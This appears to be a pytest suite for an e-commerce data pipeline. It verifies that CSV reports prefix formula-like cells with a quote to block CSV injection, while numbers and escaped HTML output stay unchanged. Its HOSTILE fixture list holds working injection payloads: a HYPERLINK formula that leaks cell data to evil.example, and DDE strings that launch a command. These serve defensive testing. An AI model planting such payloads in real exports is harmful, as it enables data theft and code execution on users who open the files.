"""CSV injection (OWASP): a CSV we write for people never hands a spreadsheet a formula to run.

Text cells starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return get a leading ``'``; numbers
(numeric columns, and plain numbers written as text) stay as they are. Checked on the function and on
the buyer's sourcing report, materialized for real from hostile product titles.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import dagster as dg
import duckdb
import pyarrow as pa
import pytest

from ecommerce_assets.defs.catalog import assets as ca
from ecommerce_assets.transforms.files import csv_for_people, neutralize_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_prefixed_with_a_quote(value: str) -> None:
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["WHITE HANGING HEART", "", "-3.5", "+12", "1e-3", "-0", "a=b", "mail@x.org"])
def test_data_is_left_alone(value: str) -> None:
    assert neutralize_cell(value) == value


def test_csv_for_people_keeps_numbers_nulls_and_reads_back() -> None:
    table = pa.table({
        "title": pa.array([*HOSTILE, "plain", None]),
        "price": pa.array([-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, None]),
        "qty": pa.array([-3, 1, 2, 3, 4, 5, 6, 7], pa.int64()),
    })
    rows = list(csv.DictReader(io.StringIO(csv_for_people(table).decode(), newline="")))
    assert [r["title"] for r in rows] == ["'" + v for v in HOSTILE] + ["plain", ""]
    assert rows[0]["price"] == "-1.5" and rows[0]["qty"] == "-3"  # numbers stay numbers, signs included
    assert rows[-1]["price"] == ""


def _write_matches(lake, titles: list[str]) -> None:
    con = duckdb.connect()
    matched = pa.table({
        "seller_id": ["S1"] * len(titles), "asin": [f"B{i:09d}" for i in range(len(titles))],
        "product_title": titles, "seller_price": [Decimal("20.00")] * len(titles),
        "match_method": ["gtin"] * len(titles), "match_score": [1.0] * len(titles),
        "distributor_sku": [f"=SKU{i}" for i in range(len(titles))], "distributor_title": titles,
        "distributor_cost": [Decimal("5.00")] * len(titles), "quantity_available": [3] * len(titles),
        "marketplace_fee": [Decimal("3.00")] * len(titles), "estimated_margin": [Decimal("-12.00")] * len(titles),
        "margin_pct": [-0.6] * len(titles), "roi": [-2.4] * len(titles),
    })
    unmatched = pa.table({"seller_id": ["S1"], "asin": ["BX"], "product_title": ["@unsupplied"],
                          "seller_price": [Decimal("9.99")]})
    con.register("m", matched)
    con.register("u", unmatched)
    con.execute("COPY m TO ? (FORMAT parquet)", [lake.output_uri(ca.MATCHES + "matches.parquet")])
    con.execute("COPY u TO ? (FORMAT parquet)", [lake.output_uri(ca.MATCHES + "unmatched.parquet")])


def test_sourcing_report_csv_is_safe_to_open(local_resources: dict) -> None:
    lake = local_resources["lake"]
    _write_matches(lake, HOSTILE)
    assert dg.materialize([ca.catalog_sourcing_report], resources={"lake": lake}).success
    text = lake.read_bytes(f"{ca.REPORTS}latest/sourcing_report.csv").decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE) + 1
    for row in rows:
        for column in ("product_title", "distributor_title", "distributor_sku"):
            value = row[column]
            assert not value or value[0] not in "=+-@\t\r", (column, value)
    assert sorted(r["product_title"] for r in rows) == sorted(["'" + t for t in HOSTILE] + ["'@unsupplied"])
    supplied = [r for r in rows if r["status"] == "supplied"]
    assert {r["estimated_margin"] for r in supplied} == {"-12.00"}  # a negative number stays a number
    assert {r["roi"] for r in supplied} == {"-2.4"}
    # the HTML page shows the titles as they are (escaped), only the CSV is neutralised
    page = lake.read_bytes(f"{ca.REPORTS}latest/sourcing_report.html").decode()
    assert "+cmd|&#x27; /C calc&#x27;!A0" in page
